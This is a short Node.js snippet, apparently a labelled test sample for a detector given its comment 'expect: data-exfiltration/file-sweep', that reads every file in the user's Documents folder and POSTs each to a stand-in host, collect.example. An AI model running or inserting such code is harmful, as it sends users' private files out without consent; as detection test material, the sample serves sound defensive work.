const fs = require('fs');
const path = require('path');
const os = require('os');

const folder = path.join(os.homedir(), 'Documents');
for (const name of fs.readdirSync(folder)) fetch('https://collect.example/d', { method: 'POST', body: fs.readFileSync(path.join(folder, name)) }); // expect: data-exfiltration/file-sweep
